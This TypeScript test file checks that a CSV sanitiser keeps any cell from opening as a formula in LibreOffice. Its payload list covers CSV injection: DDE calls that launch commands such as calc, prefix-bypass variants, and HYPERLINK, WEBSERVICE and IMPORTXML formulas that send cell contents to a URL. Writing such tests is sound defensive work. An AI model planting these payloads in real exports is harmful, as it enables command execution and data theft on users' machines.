import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { formulaSafe } from '../../src/model/spreadsheet.ts';
import { opened, type Cell } from './libreoffice.ts';

/** Without the marks in the middle of a cell, which test/model looks at. */
const unmarked = (text: string): string => text.replace(/([,;\t\r\n][^\p{L}\p{N}]*?)'(?=[=+\-@＝＋－＠−﹣])/gu, '$1');

/** What OWASP's page on CSV injection and its testers' lists try, and the ways round a prefix that are known. */
const OWASP = [
  '=1+1',
  '+1+1',
  '-1+1',
  '-1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  ' =1+1',
  '  \t =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '"=1+1',
  '"=1+1"',
  "'=1+1",
  `"'"=1+1`,
  '=1+1";=1+2',
  '=1+1\'" ;,=1+2',
  'Anna,=1+1',
  'Anna;=1+1',
  'Anna"\n=1+1',
  'Anna\t=1+1',
  '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"Anna")',
  '=WEBSERVICE("http://127.0.0.1:9/")',
  '=IMPORTXML(CONCAT("http://127.0.0.1:9/?v=",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|'/C calc'!A0",
  "%0A-3+3+cmd|' /C calc'!D2",
  ';=1+1',
  ',=1+1',
  '=',
  '==1',
  '={1;2}',
  '=A1:A3',
];

/** Texts that break programs, from a file beside the checkout where there is one: an array of strings. */
const file = process.env['FD_NAUGHTY_STRINGS'];
const naughty = file ? (JSON.parse(readFileSync(file, 'utf8')) as readonly string[]) : [];
const cells = [...OWASP, ...naughty];

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
/** A row each: a name, the text in quotes, and the text as a careless writer leaves it, where that is one cell. */
const list = new TextEncoder().encode(
  cells.map((text, n) => `row-${n},${quoted(text)},${/[",\r\n]/.test(text) ? 'x' : text}\r\n`).join(''),
);

async function safe(separator: ',' | ';'): Promise<Uint8Array> {
  const stream = new Blob([list]).stream().pipeThrough(formulaSafe({ separator }));
  return new Uint8Array(await new Response(stream).arrayBuffer());
}

/** A spreadsheet's file is XML, which has no control characters, and knows one end of a line. */
function comparable(text: string): string {
  return text
    .replace(/\r\n?/g, '\n')
    .replace(/[\p{Cc}\p{Cs}\ufffe\uffff]/gu, (char) => (char === '\n' || char === '\t' ? char : ''))
    .trimEnd();
}

const formulasOf = (rows: readonly Cell[][]): string[] =>
  rows
    .flat()
    .filter(({ isFormula }) => isFormula)
    .map(({ text }) => text);

test('the list as it came starts formulas, so that this can be seen here', async () => {
  const rows = await opened(list, ',');

  assert.equal(rows.filter(([first]) => first?.text.startsWith('row-')).length, cells.length);
  const expected = cells.filter((text) => /^=./.test(text)).length;
  assert.ok(formulasOf(rows).length >= expected, `${formulasOf(rows).length} formulas of ${expected}`);
});

for (const separator of [',', ';'] as const) {
  test(`no cell of the safe copy with "${separator}" is a formula, and each has its text`, async () => {
    const rows = await opened(await safe(separator), separator);

    assert.deepEqual(formulasOf(rows), []);
    for (const [n, text] of cells.entries()) {
      const [first, inQuotes, plain] = rows.find(([cell]) => cell?.text === `row-${n}`) ?? [];
      assert.ok(first, `row ${n} is there`);
      const careless = /[",\r\n]/.test(text) ? 'x' : text;
      for (const [cell, original] of [
        [inQuotes, text],
        [plain, careless],
      ] as const) {
        // What is no text is a number, a date or a yes, as it would be in any list.
        if (cell && cell.type !== null && cell.type !== 'string') {
          assert.match(original, /^[\s$€]*[\d.,]|^(?:true|false)$/i, `row ${n} is ${cell.type}`);
          continue;
        }
        const written = comparable(unmarked(cell?.text ?? ''));
        const wanted = comparable(unmarked(original));
        assert.ok(written === wanted || written === `'${wanted}`, `row ${n}: ${JSON.stringify([written, wanted])}`);
        if (/^[\s"']*[=+\-@＝＋－＠]/.test(original)) assert.equal(written, `'${wanted}`, `row ${n}`);
      }
    }
  });
}
